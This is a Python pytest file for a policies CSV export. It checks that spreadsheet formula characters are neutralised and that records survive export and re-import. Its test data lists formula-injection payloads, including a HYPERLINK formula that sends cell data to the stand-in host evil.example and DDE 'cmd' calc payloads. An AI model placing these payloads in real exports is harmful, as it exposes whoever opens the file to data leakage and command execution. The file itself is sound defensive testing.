"""The public policies CSV never hands a spreadsheet a formula, and still round-trips."""

from __future__ import annotations

import csv
import io

import pytest

from fieldguide.atlas.models import PolicyRecord
from fieldguide.atlas.policy_csv import export_policy_csv, import_policy_csv
from fieldguide.core.spreadsheet_cells import FORMULA_STARTS, protect, unprotect

HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''double",
    "'tis the season",
    "'",
    "plain text",
    "",
]


@pytest.mark.parametrize("value", HOSTILE_CELLS)
def test_protect_is_undone_by_unprotect(value):
    assert unprotect(protect(value)) == value


@pytest.mark.parametrize("value", HOSTILE_CELLS)
def test_no_protected_cell_starts_a_formula(value):
    assert not protect(value).startswith(FORMULA_STARTS)


def test_ordinary_cells_are_written_unchanged():
    for value in ("13 V.S.A. § 2632", "'tis", "2026-11-25", "https://example.org/"):
        assert protect(value) == value


def _cells(data: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data)) for cell in row]


@pytest.fixture
def hostile_records(atlas):
    records = list(PolicyRecord.objects.order_by("pk")[: len(HOSTILE_CELLS)])
    for record, value in zip(records, HOSTILE_CELLS, strict=False):
        record.citation = value or "13 V.S.A. § 2632"
        record.summary = f"@{value}" if value else "=1+1"
        record.coded_by = "=cmd|' /C calc'!A0"
        record.save()
    return records


def test_the_public_csv_neutralises_formulas(client, hostile_records):
    response = client.get("/atlas/policies.csv")
    assert response.status_code == 200
    cells = _cells(response.content.decode())
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_export_then_import_gives_the_same_records(hostile_records):
    def snapshot():
        return sorted(
            (r.pk, r.citation, r.summary, r.coded_by, r.category_id, r.end_date)
            for r in PolicyRecord.objects.all()
        )

    before = snapshot()
    result = import_policy_csv(export_policy_csv().encode())
    assert result.created == 0
    assert result.updated == 0
    assert snapshot() == before
